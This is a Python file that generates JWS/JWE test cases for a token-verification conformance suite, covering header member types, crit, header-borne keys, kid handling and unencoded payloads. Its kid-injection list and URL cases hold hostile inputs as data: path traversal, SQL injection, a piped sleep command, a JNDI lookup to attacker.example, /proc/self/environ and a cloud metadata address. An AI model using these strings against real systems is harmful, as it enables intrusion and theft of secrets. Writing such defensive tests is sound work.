"""Members of headers: their types, crit, keys that a token brings along, kid."""

import base64
import datetime
import json

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding
from tokens import PAYLOAD, decrypt, es256, es_header, kw, verify

from jose import (
    b64,
    digest_info,
    drawn,
    ecdsa,
    jwk,
    jws,
    number,
    pkcs1,
    pss,
    public,
    text,
)

PATHS = [
    ("path", "a path out of the folder", "../../../../dev/null"),
    ("sql", "SQL", "x' UNION SELECT 'secret' -- "),
    ("pkcs11-uri", "a PKCS #11 URI", "pkcs11:object=es256;type=private?module-path=/tmp/x.so"),
    ("file-uri", "a file URI", "file:///proc/self/environ"),
    ("command", "a command", "es256|sleep 10"),
    ("template", "a template", "{{7*7}}${jndi:ldap://attacker.example/x}"),
    ("windows-path", "a path of Windows", "..\\..\\windows\\win.ini"),
    ("format", "format directives", "%s%n%x{0}{}"),
]


CONTROLS = [
    ("nul", "our kid, a NUL and more", "\0.pem", "malformed"),
    ("line-end", "our kid and a line end", "\n", "malformed"),
    ("carriage-return", "our kid and a forged line of a log", "\r\nINFO accepted", "malformed"),
    ("escape", "our kid and an escape sequence of a terminal", "\x1b[2J", "malformed"),
    ("delete", "our kid and DEL", "\x7f", "malformed"),
    ("blank", "our kid and a blank", " ", "key_not_found"),
    ("zero-width", "our kid and a zero-width space", "\u200b", "key_not_found"),
    ("bidi", "our kid and a right-to-left override", "\u202e", "key_not_found"),
]


def members():
    family = verify("alg-value-types", "RFC 7515 section 4.1.1")
    for name, title, value in [
        ("null", "null", None),
        ("number", "a number", 256),
        ("true", "true", True),
        ("array", "an array", ["ES256"]),
        ("two", "an array of two", ["none", "ES256"]),
        ("object", "an object", {"alg": "ES256"}),
        ("empty-array", "an array of nothing", []),
    ]:
        family.refused(name, f"alg is {title}", es256(es_header(alg=value)), "malformed")
    family = verify("member-types", "RFC 7515 section 4.1")
    for name, value in [
        ("kid", 1),
        ("kid", None),
        ("kid", ["es256"]),
        ("typ", True),
        ("typ", ["JWT"]),
        ("cty", 1),
        ("cty", {}),
        ("zip", False),
    ]:
        kind = {int: "number", type(None): "null", list: "array", bool: "boolean", dict: "object"}[type(value)]
        family.refused(
            f"{name}-{kind}", f"{name} is of the type {kind}", es256(es_header(**{name: value})), "malformed"
        )
    family = decrypt("member-types-jwe", "RFC 7516 section 4.1")
    for name, value in [
        ("alg", None),
        ("alg", ["ECDH-ES"]),
        ("enc", 256),
        ("enc", ["A256GCM"]),
        ("kid", 1),
        ("kid", {}),
        ("typ", False),
        ("apv", 1),
    ]:
        kind = {int: "number", type(None): "null", list: "array", bool: "boolean", dict: "object"}[type(value)]
        family.refused(
            f"{name}-{kind}",
            f"{name} is of the type {kind}",
            str(kw(header=lambda it: text(json.loads(it) | {name: value}))),
            "malformed",
        )

    source = "RFC 7515 section 4.1.11"
    crits = [
        ("unknown", "an extension that nobody knows", {"x": 1, "crit": ["x"]}, "policy"),
        ("exp", "exp, the RFC's example", {"exp": 1363284000, "crit": ["exp"]}, "policy"),
        ("empty", "nothing", {"crit": []}, "malformed"),
        ("specified", "alg, which the RFC defines", {"crit": ["alg"]}, "malformed"),
        ("absent", "a member that is absent", {"crit": ["x"]}, "malformed"),
        ("twice", "a name twice", {"x": 1, "crit": ["x", "x"]}, "malformed"),
        ("text", "a text", {"x": 1, "crit": "x"}, "malformed"),
        ("number", "a number", {"crit": [1]}, "malformed"),
    ]
    signed, sealed = verify("crit", source), decrypt("crit-jwe", "RFC 7516 section 4.1.13")
    for name, title, header, code in crits:
        signed.refused(name, f"crit names {title}", es256(es_header(**header)), code)
        sealed.refused(name, f"crit names {title}", str(kw(header=header)), code)
    signed = verify("crit-more", source)
    for name, title, header, code in [
        ("null", "crit is null", {"crit": None}, "malformed"),
        ("object", "crit is an object", {"crit": {"x": 1}}, "malformed"),
        ("nested", "an array in crit", {"crit": [["x"]], "x": 1}, "malformed"),
        ("empty-name", "an empty name, present", {"crit": [""], "": 1}, "policy"),
        ("crit", "crit names itself", {"crit": ["crit"]}, "malformed"),
        ("prototype", "the name __proto__", {"crit": ["__proto__"]}, "malformed"),
        ("constructor", "the name constructor, present", {"crit": ["constructor"], "constructor": 1}, "policy"),
        ("case", "a name in another case", {"crit": ["X"], "x": 1}, "malformed"),
    ]:
        signed.refused(name, title, es256(es_header(**header)), code)

    source = ["RFC 8725 section 3.10", "RFC 7515 section 4.1.3", "CVE-2018-0114"]
    stranger = lambda **header: jws(text({"alg": "ES256"} | header), PAYLOAD, ecdsa("stranger"))
    codes = {"all": "signature_invalid", "strict": "policy"}
    family = verify("header-borne-jwk", source)
    family.accepted(
        "control-ignored",
        "a jwk is no more than a member that is not looked at",
        es256(es_header(jwk=public("stranger"))),
        PAYLOAD,
    )
    for name, title, policy, header in [
        ("jwk", "a jwk that made the signature", "all", {"jwk": public("stranger")}),
        ("our-kid", "the same, and our kid", "all", {"jwk": public("stranger"), "kid": "es256"}),
        (
            "jwk-with-our-kid",
            "a jwk that has our kid itself",
            "all",
            {"jwk": public("stranger") | {"kid": "es256"}, "kid": "es256"},
        ),
        ("private", "a private jwk", "all", {"jwk": jwk("stranger"), "kid": "es256"}),
        ("oct", "a symmetric jwk", "all", {"jwk": {"kty": "oct", "k": "AAAA"}, "kid": "es256"}),
        ("strict", "a jwk under strict", "strict", {"jwk": public("stranger"), "kid": "es256"}),
    ]:
        family.refused(name, title, stranger(**header), codes[policy], policy=policy)
    family.refused(
        "strict-good",
        "a jwk under strict, with a signature of ours",
        es256(es_header(jwk=public("es256"))),
        "policy",
        policy="strict",
    )
    for name, member, source in [
        ("header-borne-jku", "jku", "RFC 7515 section 4.1.2"),
        ("header-borne-x5u", "x5u", "RFC 7515 section 4.1.5"),
    ]:
        family = verify(name, ["RFC 8725 section 3.10", source])
        for case, title, value, policy in [
            ("http", "an http URL", "http://127.0.0.1:9/keys", "all"),
            ("https", "an https URL", "https://attacker.example/keys", "all"),
            ("file", "a file", "file:///dev/zero", "all"),
            ("data", "a data URL", "data:application/json,{}", "all"),
            ("metadata", "the address of a cloud's metadata", "http://169.254.169.254/latest/meta-data/", "all"),
            ("strict", "a URL under strict", "https://attacker.example/keys", "strict"),
        ]:
            family.refused(
                case,
                f"{member} with {title}, signed by its key",
                stranger(kid="es256", **{member: value}),
                codes[policy],
                policy=policy,
            )
    family = verify("header-borne-x5c", ["RFC 8725 section 3.10", "RFC 7515 section 4.1.6", "RFC 7515 section 4.1.7"])
    chain = certificate()
    for name, title, policy, header in [
        ("self-signed", "a self-signed certificate that made the signature", "all", {"x5c": [chain]}),
        ("our-kid", "the same, and our kid", "all", {"x5c": [chain], "kid": "es256"}),
        ("garbage", "no certificate", "all", {"x5c": ["AAAA"], "kid": "es256"}),
        ("text", "a text", "all", {"x5c": chain, "kid": "es256"}),
        ("strict", "a certificate under strict", "strict", {"x5c": [chain], "kid": "es256"}),
        ("x5t", "the thumbprint of a certificate and no kid", "all", {"x5t": "AAAA"}),
        ("x5t-s256", "a thumbprint and our kid", "all", {"x5t#S256": b64(drawn("x5t", 32)), "kid": "es256"}),
    ]:
        family.refused(name, title, stranger(**header), codes[policy], policy=policy)


def certificate():
    """A self-signed certificate of the stranger's, in base64. Its signature is deterministic."""
    key = ec.derive_private_key(number(jwk("stranger")["d"]), ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "issuer.example")])
    builder = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key()).serial_number(1)
    )
    builder = builder.not_valid_before(datetime.datetime(2020, 1, 1)).not_valid_after(datetime.datetime(2100, 1, 1))
    made = builder.sign(key, hashes.SHA256(), ecdsa_deterministic=True)
    return base64.b64encode(made.public_bytes(Encoding.DER)).decode()


def kids():
    source = ["RFC 8725 section 3.10", "RFC 7515 section 4.1.4"]
    signed, sealed = verify("kid-injection", source), decrypt("kid-injection-jwe", source)
    for name, title, kid in PATHS:
        signed.refused(name, f"kid is {title}", es256(es_header(kid=kid)), "key_not_found")
        sealed.refused(name, f"kid is {title}", str(kw(header={"kid": kid})), "key_not_found")
    signed, sealed = verify("kid-characters", source), decrypt("kid-characters-jwe", source)
    for name, title, suffix, code in CONTROLS:
        signed.refused(name, f"kid is {title}", es256(es_header(kid="es256" + suffix)), code)
        sealed.refused(name, f"kid is {title}", str(kw(header={"kid": "p256-kw" + suffix})), code)
    family = verify(
        "kid-confusion", ["RFC 7515 section 4.1.4", "RFC 7517 section 4.5"], keys=["es256", "ed25519", "rsa-any"]
    )
    stranger = lambda **header: jws(text({"alg": "ES256"} | header), PAYLOAD, ecdsa("stranger"))
    family.accepted("control-none", "no kid: the keys that fit are tried", es256('{"alg":"ES256"}'), PAYLOAD)
    family.refused("of-another", "the kid of another of the trusted keys", es256(es_header(kid="ed25519")), "policy")
    family.refused("stranger", "a stranger with our kid", stranger(kid="es256"), "signature_invalid")
    family.refused("stranger-none", "a stranger without kid", stranger(), "signature_invalid")
    family.refused("stranger-own", "a stranger with a kid of its own", stranger(kid="stranger"), "key_not_found")
    family.refused("empty", "an empty kid", es256(es_header(kid="")), "key_not_found")
    family.refused("long", "a kid of 300 bytes", es256(es_header(kid="k" * 300)), "malformed")
    family.refused("huge", "a kid of 12 KiB", es256(es_header(kid="k" * 12_288)), "malformed")
    family.refused("case", "our kid in upper case", es256(es_header(kid="ES256")), "key_not_found")

    family = verify(
        "strict-refuses-signatures",
        ["RFC 8725 section 3.2", "requirements of the profile strict"],
        keys=["es256", "es384", "es512", "rsa-any"],
        policy="strict",
    )
    token = lambda alg, key, sign: jws(text({"alg": alg, "kid": key}), PAYLOAD, sign)
    info = lambda name: lambda message: digest_info(name, message)
    for name, alg, key, sign in [
        ("rs256", "RS256", "rsa-any", pkcs1("rsa-any")),
        ("rs384", "RS384", "rsa-any", pkcs1("rsa-any", info("sha384"))),
        ("rs512", "RS512", "rsa-any", pkcs1("rsa-any", info("sha512"))),
        ("ps384", "PS384", "rsa-any", pss("rsa-any", "sha384", 48)),
        ("es384", "ES384", "es384", ecdsa("es384")),
        ("es512", "ES512", "es512", ecdsa("es512")),
        ("ps256", "PS256", "rsa-any", pss("rsa-any")),
    ]:
        title = "PS256 with an RSA key of 2048 bits under strict" if name == "ps256" else f"{alg} under strict"
        family.refused(name, title, token(alg, key, sign), "policy")

    family = verify("unencoded-payload", "RFC 7797 sections 5 and 6")
    raw = lambda header, payload: f"{b64(header)}.{payload}.{b64(ecdsa('es256')(f'{b64(header)}.{payload}'.encode()))}"
    b64_false = es_header(b64=False, crit=["b64"])
    family.refused(
        "not-critical",
        "b64 false, and crit does not say so",
        raw(es_header(b64=False), b64(PAYLOAD)),
        "malformed",
    )
    family.refused("dots", "b64 false and a payload with dots", raw(b64_false, "a.b.c"), "malformed")
    family.refused("crit-only", "crit names b64, which is absent", es256(es_header(crit=["b64"])), "malformed")
    family.refused("text", "b64 is the text false", es256(es_header(b64="false", crit=["b64"])), "malformed")
    family.refused("null", "b64 is null", es256(es_header(b64=None, crit=["b64"])), "malformed")
    family.refused("zero", "b64 is 0", es256(es_header(b64=0, crit=["b64"])), "malformed")
    family.refused(
        "true-not-critical", "b64 text in upper case", es256(es_header(B64=False, crit=["b64"])), "malformed"
    )


def all_cases():
    members()
    kids()
